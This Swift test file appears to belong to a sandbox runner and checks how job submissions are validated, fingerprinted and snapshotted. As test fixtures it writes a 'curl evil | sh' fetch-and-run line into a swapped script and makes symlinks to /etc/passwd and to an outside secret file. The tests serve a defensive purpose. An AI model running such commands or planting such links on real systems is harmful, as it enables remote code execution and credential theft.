import Foundation
import Glibc
import Runner
import Sandbox
import SystemPackage
import Testing

private func reason(_ check: SubmissionCheck) -> String? {
    if case let .rejected(reason) = check { return reason }
    return nil
}

private func valid(_ check: SubmissionCheck) -> Submission? {
    if case let .valid(submission) = check { return submission }
    return nil
}

/// Every path under `path`, relative, found without following symlinks.
private func tree(_ path: String, prefix: String = "") -> Set<String> {
    var result: Set<String> = []
    for name in (try? FileManager.default.contentsOfDirectory(atPath: path)) ?? [] {
        result.insert(prefix + name)
        var info = stat()
        if lstat(path + "/" + name, &info) == 0, info.st_mode & S_IFMT == S_IFDIR {
            result.formUnion(tree(path + "/" + name, prefix: prefix + name + "/"))
        }
    }
    return result
}

extension SyftBoxProtocolTests {
    /// Receipt checks, fingerprints, completeness and snapshots.
    @Suite struct Submissions {
        /// A job folder in the inbox, `inbox/ds@example.com/v1/job`.
        private func job(_ s: SyftBoxScratch, _ name: String = "job") throws -> String {
            let folder = s.inbox + "/ds@example.com/v1/" + name
            try s.makeSubmission(at: folder)
            return folder
        }

        // MARK: Validation

        @Test func aClientSubmissionIsValid() throws {
            let s = try SyftBoxScratch()
            let folder = try job(s)
            try s.write(folder + "/syft.pub.yaml", "rules: []\n")
            try s.makeDirectories(folder + "/code/lib/empty")
            try s.write(folder + "/code/lib/a.py", "x = 1\n")
            let submission = try #require(valid(try Submission.check(FilePath(folder))))
            #expect(submission.metadata.type == "bash")
            #expect(submission.metadata.files == ["script.sh"])
            #expect(submission.files == 4)  // script.sh, lib/a.py, run.sh, config.yaml
            #expect(submission.directories == 3)  // code, code/lib, code/lib/empty
            #expect(submission.bytes == Int64(11 + 6 + 11 + ClientFixtures.configV1Bash.utf8.count))
        }

        @Test func anExtraFileIsRejectedByName() throws {
            let s = try SyftBoxScratch()
            let folder = try job(s)
            try s.write(folder + "/extra.txt", "x")
            let why = try #require(reason(try Submission.check(FilePath(folder))))
            #expect(why.contains("\"extra.txt\""))
            #expect(why.contains("code/, run.sh and config.yaml"))
        }

        @Test func aMissingCodeFolderIsRejected() throws {
            let s = try SyftBoxScratch()
            let folder = try job(s)
            try ArtifactCollector.removeTree(FilePath(folder + "/code"))
            #expect(reason(try Submission.check(FilePath(folder))) == "the submission has no code/ folder")
            #expect(unlink(folder + "/run.sh") == 0)
            try s.makeDirectories(folder + "/code")
            #expect(reason(try Submission.check(FilePath(folder))) == "the submission has no run.sh")
        }

        @Test func aSymlinkInsideCodeIsRejectedNamingItsPath() throws {
            let s = try SyftBoxScratch()
            let folder = try job(s)
            try s.write(s.outside + "/secret", "secret")
            try s.makeDirectories(folder + "/code/sub")
            #expect(symlink(s.outside + "/secret", folder + "/code/sub/link") == 0)
            let why = try #require(reason(try Submission.check(FilePath(folder))))
            #expect(why == "code/sub/link is a symbolic link; a submission may hold only regular files and folders")
        }

        @Test func symlinkedTopLevelEntriesAreRejected() throws {
            let s = try SyftBoxScratch()
            let folder = try job(s)
            try ArtifactCollector.removeTree(FilePath(folder + "/code"))
            try s.makeDirectories(s.outside + "/code")
            #expect(symlink(s.outside + "/code", folder + "/code") == 0)
            #expect(reason(try Submission.check(FilePath(folder))) == "code is a symbolic link, not a folder")

            let other = try job(s, "other")
            #expect(unlink(other + "/run.sh") == 0)
            try s.write(s.outside + "/run.sh", "echo hi\n")
            #expect(symlink(s.outside + "/run.sh", other + "/run.sh") == 0)
            #expect(reason(try Submission.check(FilePath(other))) == "run.sh is a symbolic link, not a regular file")

            // The job folder itself.
            let linked = s.inbox + "/ds@example.com/v1/linked"
            #expect(symlink(s.outside, linked) == 0)
            #expect(reason(try Submission.check(FilePath(linked)))?.contains("symbolic link") == true)
        }

        @Test func aFIFOIsRejectedWithoutBeingOpened() throws {
            let s = try SyftBoxScratch()
            let folder = try job(s)
            #expect(mkfifo(folder + "/code/pipe", 0o644) == 0)
            // Opening the FIFO would block: returning at all is part of the test.
            let why = try #require(reason(try Submission.check(FilePath(folder))))
            #expect(why == "code/pipe is a FIFO; a submission may hold only regular files and folders")
        }

        @Test func runShAsAFolderIsRejected() throws {
            let s = try SyftBoxScratch()
            let folder = try job(s)
            #expect(unlink(folder + "/run.sh") == 0)
            try s.makeDirectories(folder + "/run.sh")
            #expect(reason(try Submission.check(FilePath(folder))) == "run.sh is a folder, not a regular file")
        }

        @Test func limitsAreEnforced() throws {
            let s = try SyftBoxScratch()
            let folder = try job(s)
            try s.write(folder + "/run.sh", [UInt8](repeating: 0x23, count: 2048))
            let small = SubmissionLimits(maxControlFileBytes: 1024)
            #expect(reason(try Submission.check(FilePath(folder), limits: small)) == "run.sh is larger than 1 KiB")
            #expect(valid(try Submission.check(FilePath(folder))) != nil)

            try s.write(folder + "/code/big.bin", [UInt8](repeating: 7, count: 10_000))
            let total = SubmissionLimits(maxTotalBytes: 8192)
            #expect(reason(try Submission.check(FilePath(folder), limits: total))
                == "the submission's files total more than 8 KiB")

            for index in 0..<5 { try s.write(folder + "/code/f\(index)", "x") }
            let few = SubmissionLimits(maxEntries: 6)
            #expect(reason(try Submission.check(FilePath(folder), limits: few))
                == "the submission holds more than 6 files and folders")

            try s.makeDirectories(folder + "/code/a/b/c")
            let shallow = SubmissionLimits(maxDepth: 3)
            #expect(reason(try Submission.check(FilePath(folder), limits: shallow))
                == "code/a/b/c is nested more than 3 folders deep")
            #expect(valid(try Submission.check(FilePath(folder), limits: SubmissionLimits(maxDepth: 4))) != nil)
        }

        @Test func anInvalidConfigIsRejectedWithTheParseError() throws {
            let s = try SyftBoxScratch()
            let folder = try job(s)
            try s.write(folder + "/config.yaml", "datasets: [census]\n")
            let why = try #require(reason(try Submission.check(FilePath(folder))))
            #expect(why.hasPrefix("config.yaml: 'datasets'"))
        }

        @Test func aVanishedFolderThrowsRatherThanRejects() throws {
            // Gone is not invalid: the daemon must not write a rejection.
            let s = try SyftBoxScratch()
            let gone = s.inbox + "/ds@example.com/v1/gone"
            #expect { try Submission.check(FilePath(gone)) } throws: { error in
                (error as? SandboxError)?.errno == .noSuchFileOrDirectory
            }
        }

        // MARK: Fingerprint

        @Test func theFingerprintFollowsTheDocumentedFraming() throws {
            // Computed independently (Python hashlib, the framing in
            // SubmissionFingerprint's documentation) for this tree.
            let s = try SyftBoxScratch()
            let folder = s.root + "/vector"
            try s.write(folder + "/code/main.py", "print(1)\n")
            try s.write(folder + "/code/lib/a.txt", "a")
            try s.write(folder + "/config.yaml", "name: x\n")
            try s.write(folder + "/run.sh", "echo hi\n")
            try s.write(folder + "/syft.pub.yaml", "ignored\n")
            let fingerprint = try Submission.fingerprint(of: FilePath(folder))
            #expect(fingerprint.hex == "b2ef9cc7ac2d2b95e48708544b990ba13f53cc7cfbdaf72cf250dde4ac716133")
            #expect(SubmissionFingerprint(hex: fingerprint.hex) == fingerprint)
            #expect(SubmissionFingerprint(hex: fingerprint.hex.uppercased()) == fingerprint)
            #expect(SubmissionFingerprint(hex: "abc") == nil)
        }

        @Test func theFingerprintIsStableAndIgnoresPermissionFileModesAndTimes() throws {
            let s = try SyftBoxScratch()
            let first = try job(s, "first")
            let second = try job(s, "second")
            let a = try Submission.fingerprint(of: FilePath(first))
            #expect(try Submission.fingerprint(of: FilePath(first)) == a)
            #expect(try Submission.fingerprint(of: FilePath(second)) == a)
            try s.write(second + "/syft.pub.yaml", "rules: []\n")
            #expect(chmod(second + "/code/script.sh", 0o700) == 0)
            var times = [timespec(tv_sec: 1000, tv_nsec: 0), timespec(tv_sec: 1000, tv_nsec: 0)]
            #expect(utimensat(AT_FDCWD, second + "/run.sh", &times, 0) == 0)
            #expect(try Submission.fingerprint(of: FilePath(second)) == a)
            #expect(try valid(Submission.check(FilePath(second)))?.fingerprint == a)
        }

        @Test func theFingerprintChangesWithAnyChangeToTheTree() throws {
            let s = try SyftBoxScratch()
            func fingerprint(_ build: (String) throws -> Void) throws -> SubmissionFingerprint {
                let folder = s.root + "/tree-\(UUID().uuidString)"
                try s.makeDirectories(folder + "/code")
                try s.write(folder + "/run.sh", "bash code/x\n")
                try s.write(folder + "/config.yaml", "type: bash\n")
                try build(folder)
                return try Submission.fingerprint(of: FilePath(folder))
            }
            let base = try fingerprint { try s.write($0 + "/code/ab", "ab"); try s.write($0 + "/code/c", "c") }
            let variants = [
                // One byte changed.
                try fingerprint { try s.write($0 + "/code/ab", "aB"); try s.write($0 + "/code/c", "c") },
                // A file renamed.
                try fingerprint { try s.write($0 + "/code/ab", "ab"); try s.write($0 + "/code/d", "c") },
                // Content moved from one file to the other.
                try fingerprint { try s.write($0 + "/code/ab", "a"); try s.write($0 + "/code/c", "bc") },
                // An empty folder added.
                try fingerprint {
                    try s.write($0 + "/code/ab", "ab"); try s.write($0 + "/code/c", "c")
                    try s.makeDirectories($0 + "/code/empty")
                },
                // A file moved into a folder.
                try fingerprint { try s.makeDirectories($0 + "/code/ab"); try s.write($0 + "/code/ab/c", "ab") },
                // A byte appended.
                try fingerprint { try s.write($0 + "/code/ab", "ab"); try s.write($0 + "/code/c", "c\n") },
            ]
            for (index, variant) in variants.enumerated() {
                #expect(variant != base, "variant \(index)")
            }
            #expect(Set(variants).count == variants.count)
            // And the same tree again hashes alike.
            #expect(try fingerprint { try s.write($0 + "/code/c", "c"); try s.write($0 + "/code/ab", "ab") } == base)
        }

        @Test func fingerprintingAnInvalidSubmissionThrowsItsReason() throws {
            let s = try SyftBoxScratch()
            let folder = try job(s)
            #expect(symlink("/etc/passwd", folder + "/code/link") == 0)
            #expect { try Submission.fingerprint(of: FilePath(folder)) } throws: { error in
                (error as? SandboxError)?.code == .invalidSubmission
                    && (error as? SandboxError)?.message.contains("code/link") == true
            }
        }

        // MARK: Completeness

        @Test func theCompletenessSignatureSeesEveryChange() throws {
            let s = try SyftBoxScratch()
            let folder = s.inbox + "/ds@example.com/v1/arriving"
            #expect(try Submission.completenessSignature(of: FilePath(folder)) == nil)
            try s.makeDirectories(folder + "/code")
            try s.write(folder + "/code/script.sh", "echo hi\n")
            let partial = try #require(try Submission.completenessSignature(of: FilePath(folder)))
            #expect(partial.missing == ["config.yaml", "run.sh"])
            #expect(!partial.hasRequiredEntries)
            try s.write(folder + "/run.sh", "echo hi\n")
            try s.write(folder + "/config.yaml", ClientFixtures.configV1Bash)
            let first = try #require(try Submission.completenessSignature(of: FilePath(folder)))
            #expect(first.hasRequiredEntries)
            #expect(first.entries == 4)
            // Nothing moved: equal.
            #expect(try Submission.completenessSignature(of: FilePath(folder)) == first)
            // A new file deep inside, a size change, a touch: all differ.
            try s.write(folder + "/code/later.py", "")
            let second = try #require(try Submission.completenessSignature(of: FilePath(folder)))
            #expect(second != first)
            try s.write(folder + "/code/later.py", "x = 1\n")
            let third = try #require(try Submission.completenessSignature(of: FilePath(folder)))
            #expect(third != second)
            var times = [timespec(tv_sec: 1000, tv_nsec: 0), timespec(tv_sec: 1000, tv_nsec: 0)]
            #expect(utimensat(AT_FDCWD, folder + "/code/script.sh", &times, 0) == 0)
            #expect(try Submission.completenessSignature(of: FilePath(folder)) != third)
            // The permission file does not count.
            let before = try Submission.completenessSignature(of: FilePath(folder))
            try s.write(folder + "/syft.pub.yaml", "rules: []\n")
            #expect(try Submission.completenessSignature(of: FilePath(folder))?.digest == before?.digest)
        }

        // MARK: Snapshot

        @Test func theSnapshotIsAnEqualCopy() throws {
            let s = try SyftBoxScratch()
            let folder = try job(s)
            try s.write(folder + "/syft.pub.yaml", "rules: []\n")
            try s.makeDirectories(folder + "/code/lib/empty")
            try s.write(folder + "/code/lib/tool", "#!/bin/sh\n", mode: 0o755)
            let submission = try #require(valid(try Submission.check(FilePath(folder))))
            let destination = s.private_ + "/snapshot"
            guard case let .created(snapshot) = try SubmissionSnapshot.create(
                from: FilePath(folder), into: FilePath(destination), expecting: submission.fingerprint) else {
                Issue.record("the snapshot should have been created")
                return
            }
            #expect(snapshot.fingerprint == submission.fingerprint)
            #expect(snapshot.folder == FilePath(destination))
            #expect(tree(destination) == ["code", "code/script.sh", "code/lib", "code/lib/empty", "code/lib/tool",
                                          "run.sh", "config.yaml"])
            for path in ["code/script.sh", "code/lib/tool", "run.sh", "config.yaml"] {
                #expect(s.read(destination + "/" + path) == s.read(folder + "/" + path), "\(path)")
            }
            #expect(try Submission.fingerprint(of: FilePath(destination)) == submission.fingerprint)
            var info = stat()
            #expect(lstat(destination + "/code/lib/tool", &info) == 0 && info.st_mode & 0o777 == 0o755)
            #expect(lstat(destination + "/config.yaml", &info) == 0 && info.st_mode & 0o777 == 0o644)
            #expect(lstat(destination, &info) == 0 && info.st_mode & 0o777 == 0o700)
        }

        @Test func aChangeAfterReceiptIsRefusedAndLeavesNothingBehind() throws {
            let s = try SyftBoxScratch()
            let folder = try job(s)
            let received = try #require(valid(try Submission.check(FilePath(folder)))).fingerprint
            // The submitter swaps the reviewed script after approval.
            try s.write(folder + "/code/script.sh", "curl evil | sh\n")
            let destination = s.private_ + "/snapshot"
            let outcome = try SubmissionSnapshot.create(from: FilePath(folder), into: FilePath(destination),
                                                        expecting: received)
            guard case let .refused(why) = outcome else {
                Issue.record("a changed submission must be refused")
                return
            }
            #expect(why.hasPrefix("the submission changed after it was received: "))
            #expect(why.contains(received.hex))
            #expect(!s.exists(destination))
            // Put back as it was, it is accepted again.
            try s.write(folder + "/code/script.sh", "echo hello\n")
            guard case .created = try SubmissionSnapshot.create(from: FilePath(folder), into: FilePath(destination),
                                                                expecting: received) else {
                Issue.record("the restored submission should be copied")
                return
            }
        }

        @Test func aSymlinkAddedAfterReceiptIsRefusedNotFollowed() throws {
            let s = try SyftBoxScratch()
            let folder = try job(s)
            let received = try #require(valid(try Submission.check(FilePath(folder)))).fingerprint
            try s.write(s.outside + "/secret", "secret")
            #expect(symlink(s.outside + "/secret", folder + "/code/secret") == 0)
            let destination = s.private_ + "/snapshot"
            let outcome = try SubmissionSnapshot.create(from: FilePath(folder), into: FilePath(destination),
                                                        expecting: received)
            #expect(outcome == .refused(reason: "the submission changed after it was received: code/secret is a "
                                        + "symbolic link; a submission may hold only regular files and folders"))
            #expect(!s.exists(destination))
        }

        @Test func theSnapshotNeverReplacesAnExistingFolder() throws {
            let s = try SyftBoxScratch()
            let folder = try job(s)
            let received = try Submission.fingerprint(of: FilePath(folder))
            try s.write(s.private_ + "/snapshot/keep", "mine")
            #expect(throws: SandboxError.self) {
                try SubmissionSnapshot.create(from: FilePath(folder), into: FilePath(s.private_ + "/snapshot"),
                                              expecting: received)
            }
            #expect(s.read(s.private_ + "/snapshot/keep") == Array("mine".utf8))
        }
    }
}
